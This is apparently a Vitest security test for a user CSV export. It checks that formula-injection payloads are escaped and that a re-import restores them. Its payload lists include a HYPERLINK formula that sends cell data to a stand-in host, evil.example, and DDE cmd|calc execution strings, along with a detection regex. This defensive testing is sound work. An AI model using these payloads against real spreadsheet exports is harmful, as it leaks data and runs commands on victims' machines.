import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CUSTOMER_GROUP, seedGroups, startService, TEST_API_KEY, type TestService } from '../helpers/service.js';

/**
 * CSV injection (OWASP): a profile field an attacker chose (a name at sign-up) must not run as a
 * formula when an administrator opens the export in a spreadsheet (docs/security.md).
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''@twice",
  // What some spreadsheets still run: a formula after leading white space (LibreOffice's "trim
  // spaces" import option, Google Sheets), after a line feed, or with full-width signs (East Asian
  // locales convert them); each gets the same quote, and the re-import takes it off again.
  ' =1+1',
  '   +cmd|calc',
  '\u00a0=1+1',
  '\u3000@SUM(1+1)',
  '\n=1+1',
  '\uff1dHYPERLINK("http://evil.example")',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  "' =spaced quote",
];

/** A cell some spreadsheet would run as a formula. */
const RUNS = /^(?:[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/u;

let service: TestService;

beforeAll(async () => {
  service = await startService();
  await seedGroups(service, [CUSTOMER_GROUP]);
});
afterAll(() => service.close());

async function exportCsv(query: string): Promise<string> {
  const response = await fetch(`${service.url}/users/export?${query}`, { headers: { 'x-api-key': TEST_API_KEY } });
  expect(response.status).toBe(200);
  return response.text();
}

describe('formula injection through GET /users/export', () => {
  it('writes no cell a spreadsheet would run, and a re-import restores every payload', async () => {
    const docs = PAYLOADS.map((name, index) => ({
      userGroup: 'customer',
      company: 'inj',
      name,
      tags: [name.replace(/,/g, ';')],
      age: index,
    }));
    const { ids } = await service.deps.users.insertMany(docs, { actorId: 'test', headers: {} });
    const csv = await exportCsv('company=inj');
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(PAYLOADS.map((payload) => `'${payload}`)));

    const form = new FormData();
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'users.csv');
    const reimport = await fetch(`${service.url}/users/import`, { method: 'PATCH', body: form, headers: { 'x-api-key': TEST_API_KEY } });
    expect(await reimport.json()).toMatchObject({ inserted: [], invalid: [] });
    for (const [index, id] of ids.entries()) {
      const user = (await service.call('GET', `/users/${id}`)).body;
      expect(user).toMatchObject({ name: PAYLOADS[index], tags: docs[index]!.tags, age: index });
    }
  });

  it('writes no formula a spreadsheet splitting lines on ";" would run (Excel where the list separator is ";", as in Italy)', async () => {
    // Such a spreadsheet opens the file with ";" as the delimiter and honours a quote only at the
    // start of a field: `Rossi;=1+1` would give a cell `=1+1`, and two neighbouring cells could
    // join into one formula across the "," between them.
    const payloads = ['Rossi;=1+1', 'a; @SUM(1+1)', "b;'-2+3", "c;=cmd|' /C calc'!A0", 'd;=HYPERLINK("http://evil.example/?"&A1;"x")'];
    const docs = payloads.map((name, index) => ({
      userGroup: 'customer',
      company: 'semi',
      username: `u${index};=1&`,
      email: `;=HYPERLINK(CHAR(104)&A1)${index}`,
      name,
      tags: [name.replace(/,/g, ' ')],
    }));
    const { ids } = await service.deps.users.insertMany(docs, { actorId: 'test', headers: {} });
    const csv = await exportCsv('company=semi');
    const fields = (parse(csv, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][]).flat();
    expect(fields.filter((field) => RUNS.test(field))).toEqual([]);

    const form = new FormData();
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'users.csv');
    const reimport = await fetch(`${service.url}/users/import`, { method: 'PATCH', body: form, headers: { 'x-api-key': TEST_API_KEY } });
    expect(await reimport.json()).toMatchObject({ inserted: [], invalid: [] });
    for (const [index, id] of ids.entries()) expect((await service.call('GET', `/users/${id}`)).body).toMatchObject(docs[index]!);
  });

  it('serves the file to administrators only, never cached', async () => {
    expect((await fetch(`${service.url}/users/export`)).status).toBe(401);
    const response = await fetch(`${service.url}/users/export`, { headers: { 'x-api-key': TEST_API_KEY } });
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });
});
